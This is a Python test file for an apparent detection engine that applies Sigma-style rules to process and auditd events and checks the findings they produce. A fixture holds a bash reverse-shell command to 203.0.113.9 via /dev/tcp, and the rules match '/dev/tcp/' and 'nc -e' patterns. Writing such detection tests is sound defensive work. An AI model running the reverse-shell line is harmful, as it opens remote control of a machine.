"""What a finding says."""

from __future__ import annotations

import dataclasses

import pytest

from event_frames import frames_of
from tocsin.conditions.parse_sql import parse_filter
from tocsin.detect.evaluate.engine import Engine
from tocsin.detect.evaluate.naive import holds
from tocsin.detect.sigma.document import documents
from tocsin.detect.sigma.rule import load_rule
from tocsin.model.event import Event
from tocsin.model.finding import MetTerm
from tocsin.model.rule import Rule
from tocsin.model.wire import PlainRecord


def _rule(body: str, own: str = "{}") -> Rule:
    head = "title: Plain title\nid: 00000000-0000-4000-8000-000000000001\nlevel: high\ntags: [attack.t1059]\n"
    (document,) = documents(f"{head}tocsin: {own}\n{body}", "test.yml")
    return load_rule(document)


_SHELL = """
logsource: {product: linux, category: process_creation}
detection:
  shell:
    Image|endswith: [/bash, /sh]
  net:
    - CommandLine|contains: /dev/tcp/
    - CommandLine|contains: nowhere
  admin: {User: root}
  condition: shell and net and not admin
"""
_EVENT = Event(
    1007,
    {
        "time": 1_700_000_000_000,
        "activity_id": 1,
        "device.hostname": "web-1",
        "process.file.path": "/bin/bash",
        "process.name": "bash",
        "process.cmd_line": "bash -i >& /dev/tcp/203.0.113.9/443",
        "actor.user.name": "www-data",
    },
)


def test_a_finding_says_what_where_who_and_why() -> None:
    """Everything an alert needs is in it, and the met terms are the rule's own words."""
    own = "{title: '{{ process.name }} of {{actor.user.name}}', group_by: [device.uid, actor.user.name], window: 1h}"
    (finding,) = Engine([_rule(_SHELL, own)]).findings(frames_of([_EVENT]))
    assert (finding.org, finding.origin, finding.hostname) == ("org", "host-1", "web-1")
    assert (finding.title, finding.level, finding.tags) == ("bash of www-data", "high", ("attack.t1059",))
    assert finding.group == {"device.uid": "host-1", "actor.user.name": "www-data"}
    assert (finding.class_uid, finding.time, finding.window_ms) == (1007, 1_700_000_000_000, 3_600_000)
    assert MetTerm("process.file.path", "Image|endswith: /bash", "/bin/bash") in finding.met
    assert ("process.cmd_line", "CommandLine|contains: /dev/tcp/") in {(m.field, m.term) for m in finding.met}
    assert not any("nowhere" in m.term or "User" in m.term for m in finding.met)
    assert finding.event["class_uid"] == 1007
    assert finding.event_uid


@pytest.mark.parametrize(
    "where", ["class_uid = 1007", "class_name = 'Process Activity'", "activity_name = 'Launch'", "type_uid = 100701"]
)
def test_what_follows_from_class_and_activity_is_judged_too(where: str) -> None:
    """The engine, the naive evaluator and therefore SQL agree on fields that no source fills."""
    events = [_EVENT, Event(1007, {"time": 1, "activity_id": 2}), Event(1007, {"time": 1}), Event(4001, {"time": 1})]
    condition = parse_filter(where)
    rule = dataclasses.replace(_rule(_SHELL), condition=condition, class_uids=(1007, 4001))
    found = Engine([rule]).findings(frames_of(events))
    assert len(found) == sum(holds(condition, event) for event in events)
    assert 1 <= len(found) <= 3


def test_a_title_that_cannot_be_filled_is_the_plain_one() -> None:
    """A template whose attribute the event lacks is not half filled."""
    (finding,) = Engine([_rule(_SHELL, "{title: '{{file.path}} changed'}")]).findings(frames_of([_EVENT]))
    assert finding.title == "Plain title"


def test_terms_met_in_a_record_name_that_record() -> None:
    """The explanation shows the record's field and value, of the record that fits."""
    rule = _rule(
        "logsource: {product: linux, service: auditd}\n"
        "detection: {s: {type: EXECVE, a0: nc, a1: ['-e', '-c']}, condition: s}\n"
    )
    records = (PlainRecord("EXECVE", ("a0",), ("ls",)), PlainRecord("EXECVE", ("a0", "a1"), ("nc", "-e")))
    (finding,) = Engine([rule]).findings(frames_of([Event(0, {"time": 1}, records)]))
    at = "unmapped.audit.records"
    assert finding.met == (
        MetTerm(f"{at}.type", "type: EXECVE", "EXECVE"),
        MetTerm(f"{at}.a0", "a0: nc", "nc"),
        MetTerm(f"{at}.a1", "a1: -e", "-e"),
    )


def test_findings_come_for_each_rule_and_event() -> None:
    """Two rules on two events make four findings with distinct (rule, event)."""
    rules = [_rule(_SHELL), _rule(_SHELL.replace("/dev/tcp/", "bash"))]
    findings = Engine(rules).findings(frames_of([_EVENT, _EVENT]))
    assert len(findings) == 4
    assert len({finding.event_uid for finding in findings}) == 2


def test_nothing_to_judge_is_no_finding() -> None:
    """No rules, or no events of a rule's class."""
    assert Engine([]).findings(frames_of([_EVENT])) == []
    assert Engine([_rule(_SHELL)]).findings(frames_of([Event(4001, {"time": 1})])) == []
